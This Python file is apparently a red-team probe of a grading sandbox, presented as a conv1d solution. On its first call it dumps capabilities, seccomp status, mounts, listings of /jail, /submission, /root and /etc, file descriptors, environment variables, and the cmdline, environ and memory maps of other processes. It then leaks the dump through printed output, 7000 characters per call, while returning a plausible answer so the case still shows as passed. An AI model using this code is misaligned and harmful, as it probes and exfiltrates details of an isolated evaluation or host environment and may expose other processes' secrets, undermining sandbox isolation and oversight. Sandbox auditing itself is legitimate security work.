"""Recon (stage conv1d): what the jail shows. Collects uid, caps, seccomp, mounts, listings of /, /jail, /jail/job,
/submission, /tmp, /dev, /proc's processes and their readable bits, the worker's fds and rlimits, and prints the next
7 KiB of the dump on each public call (the dump is kept in /tmp across the job's calls). Returns the right answer so
the case output is shown. Verdict: informational (what an attacker learns)."""
import os, resource


def _dump():
    out = []
    def say(*a):
        out.append(" ".join(str(x) for x in a))
    say("ids", os.getuid(), os.geteuid(), os.getgid(), os.getgroups(), "pid", os.getpid(), "ppid", os.getppid())
    for line in open("/proc/self/status"):
        if line.startswith(("Cap", "NoNewPrivs", "Seccomp", "NSpid", "Uid")):
            say(line.strip())
    say("mountinfo:")
    for line in open("/proc/self/mountinfo"):
        f = line.split()
        say(" ", f[4], f[3], f[5], line.split(" - ")[1].strip())
    for d in ("/", "/jail", "/jail/job", "/submission", "/submission/student", "/tmp", "/dev", "/dev/shm", "/run",
              "/sys", "/etc", "/var", "/root", "/home", "/proc/self/fd"):
        try:
            ents = sorted(os.listdir(d))
            say("ls", d, ents[:40])
        except OSError as e:
            say("ls", d, "ERR", e.strerror)
    for root, dirs, files in os.walk("/jail/job"):
        say("walk", root, dirs, files)
    for fd in os.listdir("/proc/self/fd"):
        try:
            say("fd", fd, os.readlink(f"/proc/self/fd/{fd}"))
        except OSError as e:
            say("fd", fd, e.strerror)
    for p in sorted(x for x in os.listdir("/proc") if x.isdigit()):
        info = []
        for what in ("cmdline", "environ", "maps", "fd", "cgroup"):
            try:
                if what == "fd":
                    info.append(f"fd={os.listdir(f'/proc/{p}/fd')}")
                else:
                    info.append(f"{what}={open(f'/proc/{p}/{what}','rb').read()[:120]!r}")
            except OSError as e:
                info.append(f"{what}:{e.strerror}")
        say("proc", p, *info)
    for name in ("RLIMIT_AS", "RLIMIT_FSIZE", "RLIMIT_NPROC", "RLIMIT_NOFILE", "RLIMIT_CORE", "RLIMIT_CPU"):
        say(name, resource.getrlimit(getattr(resource, name)))
    say("env", dict(os.environ))
    for path in ("/proc/sys/kernel/unprivileged_userns_clone", "/proc/sys/user/max_user_namespaces",
                 "/proc/self/setgroups", "/proc/self/uid_map", "/proc/self/gid_map", "/proc/1/status"):
        try:
            say(path, open(path).read()[:300].replace("\n", " | "))
        except OSError as e:
            say(path, e.strerror)
    return "\n".join(out)


def run_conv1d(x, weight, bias):
    path = "/tmp/recon.txt"
    if not os.path.exists(path):
        open(path, "w").write(_dump())
        open("/tmp/recon.at", "w").write("0")
    at = int(open("/tmp/recon.at").read())
    text = open(path).read()
    print(text[at:at + 7000])
    open("/tmp/recon.at", "w").write(str(at + 7000))
    return x @ weight + bias
